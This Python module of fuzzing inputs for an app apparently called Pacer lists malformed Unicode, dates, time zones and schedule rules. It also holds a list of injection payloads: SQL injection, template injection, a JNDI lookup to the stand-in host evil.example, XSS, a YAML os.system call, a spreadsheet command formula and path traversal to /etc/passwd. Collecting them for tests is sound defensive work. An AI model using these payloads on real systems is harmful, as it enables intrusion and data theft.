"""What hostile and clumsy people type, by what it is meant to break."""

HOSTILE_HOST = "evil.example"
"""A member's link never becomes one of Pacer's own: wherever it is shown, it is shown letter by letter."""


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split(" "))


def _lines(text: str) -> tuple[str, ...]:
    return tuple(text.strip().split("\n"))


ODD_LETTERS = _words(
    "\ud800 \udfff a\udc80b \ud83d \x00 \x07 \x08 \x1b[31m \x1b]0;x\x07 \x7f \x85 \x9b \r \r\n \n \n\n\n \t \v \f \x1c "
    "\u2028 \u2029 \u00a0 \u3000 \u1680 \u180e \u202e \u202a\u202d \u2066 \u2069\u2069 \u200e \u200f \u061c \u200b "
    "\u200d \u2060 \ufeff \u034f \u3164 \u115f \ufffe \uffff \ufffd \ufdd0 \U000f0000 \U000f0001\U000f0002 \U0010ffff "
    "\U000e0041 \ue000 e\u0301 \u0958\u0958\u0958 \ufb1d \U0001d15e \u1100\u1161\u11a8 \u2126 \u212b "
    "o\u0323\u0307 \u0301 Z\u0335\u0321\u0300 \u20dd\u20dd \ufdfd \u0dae ﬃ ǅ ſ İ ß ẞ ΐ ŉ "
    "🧑\u200d🧑\u200d🧒 🇩🇪 ☃ שלום مرحبا 你好 ไทย ኢትዮጵያ 𝔘𝔫𝔦 ａｂｃ"
)

MARKS = _words(
    '" \' “ ” ‘ ’ « """ \'\' "a b" ":" “” "\\" ` ``` \\ \\\\ : = :: := note: day= :note text: text:" text:“ when:\' '
    "zone:zone:UTC what=weekly: / // /help -- --help - ; | && $(id) # ## @ @@ * ? ! % ^ ~ … \\\n \u0020\u0020\n"
)

INJECTIONS = _lines(f"""
'; DROP TABLE member; --
' OR '1'='1
1; ATTACH DATABASE 'x' AS y
:member_id
%(name)s
{{0.__class__.__mro__}}
{{}}
%s%s%n
{{{{7*7}}}}
${{jndi:ldap://{HOSTILE_HOST}}}
<script>alert(1)</script>
<img src=x onerror=alert(1)>
&lt;b&gt; &amp;amp; &#0;
<!here> <!channel> <@U1> <@!123456789012345678> <@&1> <#C1|general>
<https://{HOSTILE_HOST}|press> </checkin:1> <t:0:R> <a:b:2> <!subteam^S1>
@everyone
@here
||spoiler|| ~~x~~ __x__ **x** _x_
[press here](https://{HOSTILE_HOST})
**[a](https://{HOSTILE_HOST}/?q=**)**
![x](https://{HOSTILE_HOST}/x.png)
<https://{HOSTILE_HOST}>
https://{HOSTILE_HOST}/`*_~
[r]: https://{HOSTILE_HOST}
[a](javascript:alert(1)) [a](data:text/html,x) [a](file:///etc/passwd)
[[[[[[ ]( ![ ]]]]
# title
> quote
- item
999999999999. one
---
```python
~~~
    code
| a | b |
!!python/object/apply:os.system ['id']
&a [*a, *a]
=cmd|' /C calc'!A0
@SUM(1)
{{"event": "forged", "level": "error"}}
../../etc/passwd
..\\..\\x
/dev/null
file.py%00.md
None
null
NaN
__class__
""")

NUMBERS = _words(
    "0 1 2 3 4 7 8 10 12 51 -1 -0 +1 007 00000199999 0x1F 1_000 1,000 1.0 1e9 1e999 9223372036854775807 "
    "9223372036854775808 -9223372036854775809 18446744073709551616 999999999 "
    "٣ ٣٣ ३ ９ ² ① Ⅷ ½ 一 1\u200b −1 –1 1\u00a0 10**9 1/0 #1 nr.1"
)

DATES = _lines("""
today
yesterday
tomorrow
TODAY
2027-02-28
2027-03-01
2027-03-02
2027-03-05
2027-04-01
2028-02-29
2026-02-30
2027-02-29
9999-12-31
0001-01-01
0000-00-00
-001-01-01
2027-13-01
2027-W09-1
2027W09-1x
20270301
2027-3-1
01.03.2027
2027-060xx
2027-03-01T09:00
٢٠٢٧-٠٣-٠١
２０２７-03-01
next monday
in 3 days
2017-03-01
2037-03-01
2037-12-31
""")

ZONES = _lines("""
Europe/Berlin
europe/berlin
UTC
America/New_York
Asia/Kathmandu
Pacific/Apia
Pacific/Kiritimati
Australia/Lord_Howe
Africa/Casablanca
Etc/GMT+12
Antarctica/Troll
../../etc/passwd
/usr/share/zoneinfo/UTC
./UTC
Europe/../UTC
Europe/
/
Europe
Berlin
posixrules
localtime
Factory
posix/UTC
right/UTC
tzdata.zi
GMT+25
UTC+1
+01:00
CEST
EST5EDT
Europe∕Berlin
europe  berlin
""")

CADENCES = _lines("""
every Monday at 09:00
weekdays 18:30
every 2 weeks on Thu 17:00
first Friday of the month 10:00
every day at 08:00
2027-12-24 12:00
tomorrow at 9
every Monday and Friday at 12:00
last day of the month 23:59
Sundays 02:30
0 9 * * 1
30 18 * * 1-5
FREQ=WEEKLY;BYDAY=MO;BYHOUR=9;BYMINUTE=0
RRULE:FREQ=DAILY;COUNT=3;BYHOUR=8;BYMINUTE=0
""")

HOSTILE_CADENCES = _lines("""
* * * * *
*/1 * * * *
0 0 31 2 *
0 0 29 2 *
0 0 30 2 1
60 24 * * *
0 9 * * MON-SUN
0 0 * * 1#5
0 0 L * *
@reboot
@daily
0 9 1,15 * 1
0 9 1-31/1 1-12 0-7
0 9 */0 * *
0 9 31-1 * *
0 9 * * 8
-1 -1 -1 -1 -1
99999999999 * * * *
0 9 * * * *
FREQ=DAILY;INTERVAL=0
FREQ=DAILY;INTERVAL=-1
FREQ=DAILY;INTERVAL=1000000000;BYHOUR=9;BYMINUTE=0
FREQ=SECONDLY
FREQ=DAILY;COUNT=1000000000;BYHOUR=9;BYMINUTE=0
FREQ=DAILY;COUNT=0
FREQ=MINUTELY;COUNT=9
FREQ=DAILY;COUNT=9999;BYHOUR=9;BYMINUTE=0
FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=29;COUNT=9999;BYHOUR=9;BYMINUTE=0
FREQ=YEARLY;INTERVAL=9999;BYHOUR=9;BYMINUTE=0
FREQ=MONTHLY;BYMONTHDAY=31;INTERVAL=12;BYHOUR=9;BYMINUTE=0
FREQ=MONTHLY;BYDAY=MO,TU,WE,TH,FR;BYSETPOS=-1;BYHOUR=9;BYMINUTE=0
FREQ=MONTHLY;BYDAY=MO;BYSETPOS=366;BYHOUR=9;BYMINUTE=0
FREQ=YEARLY;BYYEARDAY=-366;BYHOUR=9;BYMINUTE=0
FREQ=YEARLY;BYWEEKNO=53;BYHOUR=9
FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=30;BYHOUR=9;BYMINUTE=0
FREQ=WEEKLY;BYDAY=53MO
FREQ=WEEKLY;BYDAY=
FREQ=
=;=;=
FREQ=DAILY;FREQ=DAILY
FREQ=DAILY;UNTIL=00010101
FREQ=DAILY;UNTIL=99991231T235959Z;BYHOUR=9;BYMINUTE=0
FREQ=DAILY;UNTIL=20270230
DTSTART:99991231T235959Z RRULE:FREQ=DAILY
DTSTART:00010101T000000 RRULE:FREQ=DAILY
DTSTART;TZID=../x:20270301T090000 RRULE:FREQ=DAILY
DTSTART:20270301T090000 RRULE:FREQ=DAILY;COUNT=9999
FREQ=DAILY;BYHOUR=0,1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22,23
FREQ=DAILY;BYEASTER=0
EXDATE:20270301
every 0 days at 09:00
every 999999999 weeks on Mon at 09:00
every ٣ weeks on Monday at 09:00
every -1 days 9:00
every Monday at 25:61
every Monday at 24:00
every monday at 9 at 10 at 11
31st of the month 9:00
32nd of the month 9:00
fifth Friday of the month 10:00
last last Friday 9:00
2026-02-30 12:00
9999-12-31 23:59
0001-01-01 00:00
2027-03-28 02:30
2037-12-24 12:00
every hour
every 5 minutes
twice a day
noon
09:00
""")

DAY_STARTS = _words("04:00 0:00 12:00 12:01 24:00 4 ٤:00 04:0 -1:00 04:00:00 : 4:٣٠ 00004:00")
TARGETS = _words("1 3 7 0 8 daily DAILY weekly ٣ 3.5 -1 many")
SWITCHES = _words("yes no true off 1 0 YES maybe ＯＮ 2")

WORDS = _lines("""
read a chapter about indexes
two pull requests, one review
what's next: “tests”
A
B
C
a c
def solve(values): return sorted(values)
https://github.com/ada/engine
O(log n)
""")
